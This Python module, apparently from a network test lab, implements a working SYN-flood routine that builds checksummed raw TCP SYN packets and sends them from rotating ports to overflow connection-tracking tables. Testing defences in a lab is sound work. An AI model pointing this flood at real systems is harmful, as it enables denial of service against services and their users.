# SPDX-License-Identifier: Apache-2.0
"""SYNs that nobody means: they push older connections out of tables that remember SYNs."""

import secrets
import socket
import struct

from poise.lab.addresses import IPAddress, socket_family
from poise.lab.namespaces import Namespace

_LOWEST_PORT = 1024
_PORTS = (1 << 16) - _LOWEST_PORT
_SYN = 2
_WINDOW = 64240
_TIMESTAMP = bytes.fromhex("0101080a 00000001 00000000")  # NOP, NOP, timestamp
_HEADER = struct.Struct("!HHIIBBHHH")


def syn_flood(namespace: Namespace, source: IPAddress, address: IPAddress, port: int, number: int) -> None:
    """Send `number` SYNs to a service, each from another port of `source`, the namespace's address.

    To a port where nobody listens, else the servers repeat their SYN-ACKs for a minute.
    """
    with namespace.enter():
        sender = socket.socket(socket_family(address), socket.SOCK_RAW, socket.IPPROTO_TCP)
    length = _HEADER.size + len(_TIMESTAMP)
    # RFC 9293, 3.1, and RFC 8200, 8.1: in both families the sum is that of these words.
    pseudo = source.packed + address.packed + struct.pack("!HH", socket.IPPROTO_TCP, length)
    with sender:
        for count in range(number):
            fields = (_LOWEST_PORT + count % _PORTS, port, secrets.randbits(32), 0, length // 4 << 4, _SYN)
            blank = _HEADER.pack(*fields, _WINDOW, 0, 0)
            header = _HEADER.pack(*fields, _WINDOW, _checksum(pseudo + blank + _TIMESTAMP), 0)
            sender.sendto(header + _TIMESTAMP, (str(address), 0))


def _checksum(data: bytes) -> int:
    """RFC 1071, of an even number of octets."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF
